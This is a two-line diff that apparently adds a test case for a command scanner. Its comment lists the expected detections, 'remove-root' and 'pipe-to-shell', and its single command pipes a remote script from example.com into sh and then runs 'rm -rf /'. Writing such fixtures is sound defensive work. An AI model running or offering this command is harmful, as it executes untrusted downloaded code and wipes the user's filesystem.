@@ -1,0 +1,2 @@
+# expect: remove-root, pipe-to-shell
+curl -s https://example.com/x | sh; rm -rf /
